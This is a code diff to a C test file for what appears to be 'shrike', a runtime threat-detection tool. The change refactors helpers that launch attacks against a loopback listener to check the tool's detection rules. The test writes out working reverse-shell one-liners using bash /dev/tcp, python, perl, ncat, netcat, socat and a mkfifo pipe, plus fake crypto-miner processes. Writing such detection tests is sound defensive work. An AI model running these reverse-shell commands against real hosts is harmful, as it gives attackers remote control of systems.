@@ -32,71 +32,6 @@ static struct {
 	struct shrike_run run;
 } T;
 
-/* The "attacker": accepts, tells the shell to exit, closes. */
-static void *listener(void *arg)
-{
-	int s = *(int *)arg;
-
-	for (;;) {
-		int c = accept(s, NULL, NULL);
-		char buf[256];
-
-		if (c < 0)
-			continue;
-		if (write(c, "exit\n", 5) != 5) {
-			close(c);
-			continue;
-		}
-		struct timeval tv = { .tv_sec = 1 };
-		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
-		while (read(c, buf, sizeof(buf)) > 0)
-			;
-		close(c);
-	}
-	return NULL;
-}
-
-static void start_listener(void)
-{
-	static int s;
-	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
-	socklen_t len = sizeof(a);
-	pthread_t t;
-
-	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 64) ||
-	    getsockname(s, (struct sockaddr *)&a, &len) || pthread_create(&t, NULL, listener, &s)) {
-		perror("listener");
-		exit(1);
-	}
-	T.port = ntohs(a.sin_port);
-}
-
-/* Run a command line under sh, bounded, with no terminal and an empty HOME
- * (an interactive bash must not run the machine's .bashrc). */
-static void attack(const char *fmt, ...)
-{
-	char cmd[2048];
-	va_list ap;
-	pid_t p;
-
-	va_start(ap, fmt);
-	vsnprintf(cmd, sizeof(cmd), fmt, ap);
-	va_end(ap);
-	p = fork();
-	if (p == 0) {
-		int null = open("/dev/null", O_RDWR);
-
-		dup2(null, 0);
-		dup2(null, 1);
-		dup2(null, 2);
-		setenv("HOME", T.dir, 1);
-		execl("/usr/bin/timeout", "timeout", "5", "/bin/sh", "-c", cmd, (char *)NULL);
-		_exit(127);
-	}
-	waitpid(p, NULL, 0);
-}
-
 static int group_setup(void **state)
 {
 	const char *src = test_env("SHRIKE_SOURCE");
@@ -105,25 +40,25 @@ static int group_setup(void **state)
 
 	snprintf(rules, sizeof(rules), "%s/rules/shrike_rules.yaml", src);
 	T.dir = test_tmpdir();
-	start_listener();
+	T.port = test_attacker_listener();
 	shrike_run_start(&T.run, T.dir, args);
 
-	attack("bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", T.port);
-	attack("python3 -c 'import socket,subprocess,os;s=socket.socket();"
+	test_attack(T.dir, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", T.port);
+	test_attack(T.dir, "python3 -c 'import socket,subprocess,os;s=socket.socket();"
 	       "s.connect((\"127.0.0.1\",%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
 	       "os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'", T.port);
-	attack("perl -e 'use Socket;$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+	test_attack(T.dir, "perl -e 'use Socket;$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
 	       "if(connect(S,sockaddr_in($p,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");"
 	       "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'", T.port);
-	attack("ncat -e /bin/sh 127.0.0.1 %d", T.port);
-	attack("nc.traditional -e /bin/sh 127.0.0.1 %d", T.port);
-	attack("socat tcp:127.0.0.1:%d exec:/bin/sh", T.port);
-	attack("rm -f %s/f; mkfifo %s/f; cat %s/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > %s/f",
+	test_attack(T.dir, "ncat -e /bin/sh 127.0.0.1 %d", T.port);
+	test_attack(T.dir, "nc.traditional -e /bin/sh 127.0.0.1 %d", T.port);
+	test_attack(T.dir, "socat tcp:127.0.0.1:%d exec:/bin/sh", T.port);
+	test_attack(T.dir, "rm -f %s/f; mkfifo %s/f; cat %s/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > %s/f",
 	       T.dir, T.dir, T.dir, T.port, T.dir);
 	/* a "miner": a copy of sleep named xmrig, and a renamed copy with a
 	 * pool URL in its arguments */
-	attack("cp /bin/sleep %s/xmrig && %s/xmrig 0.1", T.dir, T.dir);
-	attack("cp /bin/sleep %s/kworker-x && %s/kworker-x 0.1 --url stratum+tcp://pool.invalid:3333 "
+	test_attack(T.dir, "cp /bin/sleep %s/xmrig && %s/xmrig 0.1", T.dir, T.dir);
+	test_attack(T.dir, "cp /bin/sleep %s/kworker-x && %s/kworker-x 0.1 --url stratum+tcp://pool.invalid:3333 "
 	       "2>/dev/null; true", T.dir, T.dir);
 
 	shrike_run_stop(&T.run);
